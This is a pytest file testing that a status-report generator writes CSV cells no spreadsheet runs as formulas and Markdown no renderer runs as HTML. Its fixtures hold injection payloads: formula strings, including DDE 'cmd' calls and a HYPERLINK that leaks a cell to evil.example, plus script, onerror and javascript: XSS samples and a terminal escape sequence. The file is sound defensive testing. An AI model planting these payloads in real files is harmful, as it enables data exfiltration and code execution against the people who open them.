"""`statusgen report` keeps the project's text inert: CSV cells no spreadsheet runs, Markdown no renderer runs.

The project's words (action items, owners, severity ids, tier and component names) come from
files anyone with a pull request can edit; the report goes to people who open it in a spreadsheet
or paste it where Markdown is rendered. Every check reads the real output: the CSV through the csv
module, the Markdown through Python-Markdown with tables, as a wiki or a chat would show it.
"""
from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import markdown
import pytest
from click.testing import CliRunner

from generator.cli import main
from sample import write_project

NOW = "2026-04-10T12:00:00Z"
PERIOD = ["--from", "2026-03-01", "--to", "2026-03-31"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")

SEVERITY = "@SUM(1+1)*cmd|' /C calc'!A0"
TIER_RUN = "+1+cmd|' /C calc'!A0"
TIER_IMG = '<img src=x onerror="alert(1)">'
COMPONENT = "<script>alert('component')</script>"
# action -> owner: each a way to start a formula, or to bring an element or a link into Markdown.
ITEMS = {
    '=HYPERLINK("http://evil.example/?"&A1,"details")': "-2+3",
    "<script>alert('action')</script> a | b\nsecond line": "\t=1+1",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example/>": "\r=2+2",
    "&lt;b&gt;already escaped&lt;/b&gt; and *stars* and `ticks`": " =trimmed+1",
    "Rotate the keys": "Sam",
}
OPTIONS = {
    "severities": [{"id": SEVERITY, "name": "Critical"}, {"id": "P2", "name": "Major"}],
    "sla_tiers": [{"name": TIER_RUN, "uptime": 99.9}, {"name": TIER_IMG, "uptime": 99}],
}


def _yaml_string(text: str) -> str:
    """A double-quoted YAML scalar that keeps tabs, carriage returns and newlines as they are."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    return '"' + escaped.replace("\n", "\\n") + '"'


def _incident() -> str:
    items = "".join(f"  - action: {_yaml_string(action)}\n    owner: {_yaml_string(owner)}\n    due: 2026-04-01\n"
                    for action, owner in ITEMS.items())
    return ("---\ntitle: Errors\nseverity: " + _yaml_string(SEVERITY) + "\ncomponents:\n  api: major_outage\n"
            "started: 2026-03-05T12:00:00Z\nupdates:\n"
            "  - at: 2026-03-05T12:05:00Z\n    status: investigating\n    message: Looking.\n"
            "  - at: 2026-03-05T13:05:00Z\n    status: resolved\n    message: Fixed.\n"
            "detected: 2026-03-05T12:01:00Z\nacknowledged: 2026-03-05T12:03:00Z\naction_items:\n" + items + "---\n")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    components = [{"id": "api", "name": COMPONENT}, {"id": "web", "name": "Website"}]
    return write_project(tmp_path_factory.mktemp("hostile"), {"2026-03-05-errors": _incident()},
                         components=components, options=OPTIONS)


def report(project, fmt: str) -> str:
    result = CliRunner().invoke(main, ["report", "-f", str(project.mkdocs), "--now", NOW, *PERIOD, "--format", fmt])
    assert result.exit_code == 0, result.output
    return result.stdout


# -- CSV ------------------------------------------------------------------------------------------------------

def test_no_csv_cell_starts_a_formula(hostile):
    rows = list(csv.reader(io.StringIO(report(hostile, "csv"))))
    cells = [cell for row in rows for cell in row]
    assert cells, "an empty report proves nothing"
    assert [c for c in cells if c.startswith(FORMULA_STARTS) or c.lstrip(" ").startswith(FORMULA_STARTS)] == []


def test_csv_keeps_the_text_behind_a_single_quote(hostile):
    rows = list(csv.DictReader(io.StringIO(report(hostile, "csv"))))
    # Validation already folds the owners' tab, carriage return and leading space into plain text;
    # test_every_formula_start_is_neutralised covers them where they reach the writer.
    assert [(r["owner"], r["action"]) for r in rows if r["section"] == "action_item"] == [
        ("'-2+3", "'" + '=HYPERLINK("http://evil.example/?"&A1,"details")'),
        ("'=1+1", "<script>alert('action')</script> a | b second line"),
        ("'=2+2", "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example/>"),
        ("'=trimmed+1", "&lt;b&gt;already escaped&lt;/b&gt; and *stars* and `ticks`"),
        ("Sam", "Rotate the keys")]
    assert {r["severity"] for r in rows if r["section"] == "response"} == {"'" + SEVERITY, "P2"}
    assert {r["tier"] for r in rows if r["section"] == "uptime"} == {"'" + TIER_RUN, TIER_IMG}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "  =1",
                                  "-5"])
def test_every_formula_start_is_neutralised(text):
    from generator.reliability.formats import spreadsheet_text

    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Sam", "a=b", "", " Sam", "'quoted", 9, -5, 0, 99.85, -0.5, None])
def test_other_cells_and_every_number_are_kept(value):
    from generator.reliability.formats import spreadsheet_text

    assert spreadsheet_text(value) == value


def test_csv_numbers_stay_numbers_and_text_is_quoted(hostile):
    """Computed figures are written unquoted (a spreadsheet reads them as numbers); every text cell is quoted,
    so a separator inside it (a ';' where that is the list separator) cannot start a cell of its own."""
    text = report(hostile, "csv")
    header, *rows = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))
    by_name = [dict(zip(header, row)) for row in rows]
    p1_detect = next(r for r in by_name if r["section"] == "response" and r["measure"] == "detect"
                     and r["severity"] == "'" + SEVERITY)
    assert (p1_detect["incidents"], p1_detect["measured"], p1_detect["mean_seconds"]) == (1.0, 1.0, 60.0)
    uptime = next(r for r in by_name if r["section"] == "uptime" and r["component"] == "api"
                  and r["month"] == "2026-03")
    assert isinstance(uptime["uptime_percent"], float) and isinstance(uptime["target_percent"], float)
    overdue = [r["days_overdue"] for r in by_name if r["section"] == "action_item"]
    assert overdue == [9.0] * len(ITEMS)
    assert text.splitlines()[0] == ",".join(f'"{name}"' for name in header)


# -- Markdown -------------------------------------------------------------------------------------------------

class _Elements(HTMLParser):
    """Every element and attribute in rendered HTML, and the text a reader sees."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str | None]] = []
        self.text: list[str] = []
        self.rows: list[int] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]
        if tag == "tr":
            self.rows.append(0)
        elif tag in ("td", "th"):
            self.rows[-1] += 1

    def handle_data(self, data):
        self.text.append(data)


def rendered(project) -> _Elements:
    parser = _Elements()
    parser.feed(markdown.markdown(report(project, "markdown"), extensions=["tables"]))
    return parser


def test_markdown_renders_no_live_element(hostile):
    page = rendered(hostile)
    assert page.tags <= {"h1", "h2", "p", "table", "thead", "tbody", "tr", "th", "td"}, page.tags
    assert page.attributes == []


def test_markdown_shows_the_text_as_written(hostile):
    page = rendered(hostile)
    shown = "".join(page.text)
    for action, owner in ITEMS.items():
        assert " ".join(action.splitlines()) in shown
        assert owner.strip() in shown
    assert COMPONENT in shown and TIER_IMG in shown and SEVERITY in shown
    # A | or a newline in a cell does not add a column or end the table: every row has the table's width.
    assert sorted(set(page.rows)) == [4, 5, 6, 8]


def test_markdown_source_escapes_html():
    """The escaping itself, on a value where each character matters."""
    from generator.reliability.formats import markdown_cell

    assert markdown_cell("<a href='x'>&amp; | *b* _c_ `d` [e](f) \\ g\r\nh") == (
        "&lt;a href='x'&gt;&amp;amp; \\| \\*b\\* \\_c\\_ \\`d\\` \\[e\\](f) \\\\ g h")


def test_the_text_report_keeps_terminal_escapes_and_line_breaks_inert():
    from generator.reliability.formats import _table

    lines = _table(["Owner"], [["\x1b]0;pwned\x07ops\nfake: line"]])
    assert all("\x1b" not in line and "\x07" not in line for line in lines)
    assert len(lines) == 3 and "ops fake: line" in lines[2]
